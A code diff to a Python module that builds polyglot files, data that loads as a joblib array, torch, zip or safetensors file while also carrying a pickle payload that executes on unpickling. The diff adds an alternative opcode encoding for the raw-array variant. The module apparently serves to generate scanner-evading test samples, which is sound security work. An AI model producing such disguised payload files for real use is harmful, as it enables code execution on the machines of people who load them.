@@ -20,6 +20,7 @@ import numpy as np
 import zstandard
 
 from .assembly import Attack, Call, Payload, push
+from .opcodes import as_text
 
 _NPY_HEADER: Final = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
 _TORCH_MAGIC: Final = b"\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19."
@@ -94,7 +95,7 @@ def _joblib_objects(payload: Payload) -> bytes:
     return data[: data.index(b"\x80\x05", 2)] + payload.pickle + b"."
 
 
-def _raw_array_polyglot(payload: Payload) -> bytes:
+def _raw_array_polyglot(payload: Payload, opcodes: Build = lambda payload: payload.pickle) -> bytes:
     """To joblib a file with one array; to pickle.load the array's padding and numbers are opcodes."""
     buffer = io.BytesIO()
     joblib.dump(np.full(1000, ord("N"), np.uint8), buffer)
@@ -102,7 +103,7 @@ def _raw_array_polyglot(payload: Payload) -> bytes:
     numbers = data.index(b"N" * 1000)
     # The byte before the padding is its length, and both are free for joblib to skip: "(" and then "N" are opcodes.
     build = data.rindex(b"b", 0, numbers) + 1
-    return data[:build] + b"(" + b"N" * 40 + payload.pickle.ljust(1000, b"N") + data[numbers + 1000 :]
+    return data[:build] + b"(" + b"N" * 40 + opcodes(payload).ljust(1000, b"N") + data[numbers + 1000 :]
 
 
 def _torch_legacy(payload: Payload) -> bytes:
@@ -199,6 +200,7 @@ POLYGLOTS: Final[dict[str, Build]] = {
     "zip behind a pickle": lambda p: p.pickle + zipped({"a.txt": b"x"}),
     "safetensors behind a pickle": lambda p: p.pickle + struct.pack("<Q", 2) + b"{}",
     "raw array that is a pickle": _raw_array_polyglot,
+    "raw array that calls by copy": lambda p: _raw_array_polyglot(p, as_text),
 }
 
 
